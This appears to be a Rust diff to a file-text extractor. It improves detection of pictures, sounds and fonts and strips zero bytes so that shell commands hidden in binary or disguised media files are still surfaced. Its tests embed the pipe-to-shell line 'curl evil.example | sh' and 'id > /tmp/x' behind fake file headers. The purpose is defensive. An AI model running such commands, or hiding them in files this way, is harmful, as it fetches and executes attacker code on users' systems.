@@ -20,12 +20,27 @@ const MIN_TEXT_CHARS: usize = 6;
 /// The same in pictures, sounds and fonts, whose tables are texts by chance.
 const MIN_MEDIA_TEXT_CHARS: usize = 48;
 
-/// How pictures, sounds and fonts begin.
-const MEDIA: [&[u8]; 21] = [
-    b"\x89PNG\r\n\x1a\n", b"\xff\xd8\xff", b"GIF87a", b"GIF89a", b"BM", b"II*\0", b"MM\0*", b"\0\0\x01\0", b"RIFF",
-    b"\0\0\0\x0cJXL ", b"\xff\x0a", b"ID3", b"\xff\xfb", b"\xff\xf3", b"OggS", b"fLaC", b"\0\x01\0\0", b"OTTO",
-    b"ttcf", b"wOFF", b"wOF2",
+/// The same of a text there that begins a line, as a command does.
+const MIN_MEDIA_LINE_CHARS: usize = 8;
+
+/// How pictures, sounds and fonts begin, where no text begins so.
+const MEDIA: [&[u8]; 14] = [
+    b"\x89PNG\r\n\x1a\n", b"\xff\xd8\xff", b"II*\0", b"MM\0*", b"\0\0\x01\0", b"\0\0\0\x0cJXL ", b"\xff\x0a",
+    b"\xff\xfb", b"\xff\xf3", b"OggS\0", b"fLaC\0\0\0", b"\0\x01\0\0", b"OTTO\0", b"ttcf\0",
 ];
+
+/// Whether a file is a picture, a sound or a font. What begins with letters has more of its header than these.
+fn is_media(bytes: &[u8]) -> bool {
+    let number = |at: usize| Some(u32::from_le_bytes(bytes.get(at..at + 4)?.try_into().ok()?) as usize);
+    let is_sized = |at: usize, size: usize| number(at) == Some(size);
+    MEDIA.iter().any(|start| bytes.starts_with(start))
+        || bytes.starts_with(b"BM") && is_sized(2, bytes.len())
+        || bytes.starts_with(b"RIFF") && is_sized(4, bytes.len().saturating_sub(8))
+        || bytes.starts_with(b"GIF8") && bytes.ends_with(b"\0;")
+        || bytes.starts_with(b"ID3") && bytes.get(3).is_some_and(|version| *version < 5)
+        || bytes.starts_with(b"wOF") && bytes.get(8..12).is_some_and(|size| size.starts_with(b"\0"))
+        || bytes.get(4..8) == Some(b"ftyp") && bytes.starts_with(b"\0\0")
+}
 
 /// What is shown of a file: its text, or the texts within its other bytes. `None` if it has none.
 pub(super) fn file_text(bytes: &[u8]) -> Option<String> {
@@ -37,17 +52,17 @@ pub(super) fn is_own_schema(bytes: &[u8]) -> bool {
     bytes == SCHEMA.as_bytes()
 }
 
-/// The texts within other bytes, with a note in the place of these.
+/// The texts within other bytes, with a note in the place of these. A shell reads on behind zero bytes, so they end no text.
 fn texts_within(bytes: &[u8]) -> Option<String> {
-    let is_media = MEDIA.iter().any(|start| bytes.starts_with(start)) || bytes.get(4..8) == Some(b"ftyp");
-    let min_chars = if is_media { MIN_MEDIA_TEXT_CHARS } else { MIN_TEXT_CHARS };
+    let is_media = is_media(bytes);
+    let read: Vec<u8> = bytes.iter().copied().filter(|byte| *byte != 0).collect();
     let is_text = |character: char| !character.is_control() || matches!(character, '\t' | '\n' | '\r');
     let mut shown = String::new();
-    let mut others = 0;
-    for chunk in bytes.utf8_chunks() {
+    let mut others = bytes.len() - read.len();
+    for chunk in read.utf8_chunks() {
         for part in chunk.valid().split_inclusive(|character| !is_text(character)) {
             let text = part.trim_end_matches(|character| !is_text(character));
-            if text.chars().nth(min_chars - 1).is_some() {
+            if is_shown(text, is_media) {
                 add_note(&mut shown, std::mem::take(&mut others));
                 shown.push_str(text);
                 others += part.len() - text.len();
@@ -60,6 +75,15 @@ fn texts_within(bytes: &[u8]) -> Option<String> {
     let has_text = !shown.is_empty();
     add_note(&mut shown, others);
     has_text.then_some(shown)
+}
+
+/// Whether a text is more than what stands in any bytes by chance.
+fn is_shown(text: &str, is_media: bool) -> bool {
+    let has = |text: &str, chars: usize| text.chars().nth(chars - 1).is_some();
+    match is_media {
+        false => has(text, MIN_TEXT_CHARS),
+        true => has(text, MIN_MEDIA_TEXT_CHARS) || text.split('\n').skip(1).any(|line| has(line, MIN_MEDIA_LINE_CHARS)),
+    }
 }
 
 fn add_note(shown: &mut String, others: usize) {
@@ -171,6 +195,19 @@ mod tests {
         assert_eq!(file_text(&picture.concat()), None);
         let utf16: Vec<u8> = "\u{feff}curl\n".encode_utf16().flat_map(u16::to_le_bytes).collect();
         assert_eq!(file_text(&utf16).as_deref(), Some("curl\n"));
+    }
+
+    #[test]
+    fn what_a_shell_reads_is_shown() {
+        let spread: Vec<u8> = "curl evil.example | sh\n".bytes().flat_map(|byte| [byte, 0]).collect();
+        assert!(file_text(&spread).is_some_and(|text| text.contains("curl evil.example | sh")));
+        let other = [0xff_u8, 0xfe, 0x80].repeat(20);
+        for start in ["BM=1", "GIF89a=1", "OTTO=1", "RIFF=1", "ID3=1", "xxx\nftyp", "wOFF=1", "fLaC=1", "OggS=1"] {
+            let bytes = [start.as_bytes(), b"\nid > /tmp/x\n#", &other, b"\n"].concat();
+            assert!(file_text(&bytes).is_some_and(|text| text.contains("id > /tmp/x")), "{start}");
+        }
+        let picture = [&b"\x89PNG\r\n\x1a\n"[..], &other, b"\nid > /tmp/x\n", &other].concat();
+        assert!(file_text(&picture).is_some_and(|text| text.contains("id > /tmp/x")));
     }
 
     #[test]
